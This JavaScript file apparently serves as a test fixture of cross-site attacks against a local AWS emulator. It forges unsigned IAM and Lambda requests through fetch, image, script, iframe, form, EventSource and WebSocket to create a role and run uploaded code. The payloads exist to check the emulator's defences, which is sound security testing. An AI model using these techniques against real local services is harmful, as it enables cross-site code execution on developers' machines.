// Attacks that another site's page may try on the emulator, as functions of `attacks`. Each sends its requests and
// resolves when all of them are answered or have failed.
"use strict";
(() => {
  /** A request in AWS's protocols; the root account's key needs no valid signature. */
  function action(base, service, path, query) {
    const url = new URL(path, base);
    const date = new Date().toISOString().replace(/[-:]|\.\d+/g, "");
    const scope = `${date.slice(0, 8)}/us-east-1/${service}/aws4_request`;
    for (const [name, value] of Object.entries(query)) url.searchParams.set(name, value);
    url.searchParams.set("X-Amz-Algorithm", "AWS4-HMAC-SHA256");
    url.searchParams.set("X-Amz-Credential", `000000000000/${scope}`);
    url.searchParams.set("X-Amz-Date", date);
    url.searchParams.set("X-Amz-Expires", "3600");
    url.searchParams.set("X-Amz-SignedHeaders", "host");
    url.searchParams.set("X-Amz-Signature", "0".repeat(64));
    return url.href;
  }

  function createRole(base, name) {
    return action(base, "iam", "/", {
      Action: "CreateRole",
      Version: "2010-05-08",
      RoleName: name,
      AssumeRolePolicyDocument: JSON.stringify({
        Version: "2012-10-17",
        Statement: [
          {
            Effect: "Allow",
            Principal: { Service: "lambda.amazonaws.com" },
            Action: "sts:AssumeRole",
          },
        ],
      }),
    });
  }

  /** Run code: create a role and a function, and invoke it. Returns the last answer's text, or "". */
  async function runCode(base, zip, options) {
    const path = "/2015-03-31/functions";
    const code = JSON.stringify({
      FunctionName: "stranger",
      Role: "arn:aws:iam::000000000000:role/stranger",
      Runtime: "python3.13",
      Handler: "stranger.handler",
      Code: { ZipFile: zip },
    });
    let text = "";
    for (const [url, body] of [
      [createRole(base, "stranger"), ""],
      [action(base, "lambda", path, {}), code],
      [action(base, "lambda", `${path}/stranger/invocations`, {}), "{}"],
    ]) {
      try {
        const answer = await fetch(url, { method: "POST", body, ...options });
        text = await answer.text();
      } catch {
        text = "";
      }
    }
    return text;
  }

  /** Put an element into the page and wait until it loads or fails. */
  function load(tag, properties) {
    return new Promise((ended) => {
      const element = Object.assign(document.createElement(tag), properties);
      element.onload = element.onerror = () => ended();
      document.body.append(element);
    });
  }

  function first(target, events) {
    return new Promise((ended) => {
      for (const name of events) target.addEventListener(name, () => ended(name));
    });
  }

  async function frame(attributes) {
    const name = `frame${document.querySelectorAll("iframe").length}`;
    const loaded = load("iframe", { name });
    await loaded;
    const form = Object.assign(document.createElement("form"), { target: name, ...attributes });
    document.body.append(form);
    const element = document.querySelector(`iframe[name=${name}]`);
    const answered = first(element, ["load"]);
    form.submit();
    await answered;
  }

  window.actions = { createRole };
  window.attacks = {
    codeByCors: (base, zip) =>
      runCode(base, zip, { headers: { "content-type": "application/json" } }),
    codeBySimpleRequests: (base, zip) =>
      runCode(base, zip, { mode: "no-cors", headers: { "content-type": "text/plain" } }),
    image: (base) => load("img", { src: createRole(base, "image") }),
    script: (base) => load("script", { src: createRole(base, "script") }),
    style: (base) => load("link", { rel: "stylesheet", href: createRole(base, "style") }),
    frame: (base) => load("iframe", { src: createRole(base, "frame") }),
    form: (base) => frame({ method: "post", action: createRole(base, "form") }),
    async events(base) {
      const source = new EventSource(createRole(base, "events"));
      await first(source, ["error"]);
      source.close();
    },
    link: (base) => void window.open(createRole(base, "link")),
    async anonymous(base) {
      const options = { mode: "no-cors", referrerPolicy: "no-referrer", credentials: "omit" };
      await fetch(createRole(base, "anonymous"), options).catch(() => {});
    },
    async reset(base) {
      await fetch(`${base}/_ministack/reset`, { method: "POST", mode: "no-cors" }).catch(() => {});
    },
    /** Whether the broker accepts the connection: "open" or "error". */
    async socket(base) {
      const at = base.replace("http://127.0.0.1", "ws://x-ats.iot.us-east-1.localhost");
      const socket = new WebSocket(`${at}/mqtt`, "mqtt");
      const event = await first(socket, ["open", "error"]);
      socket.close();
      return event;
    },
  };
})();
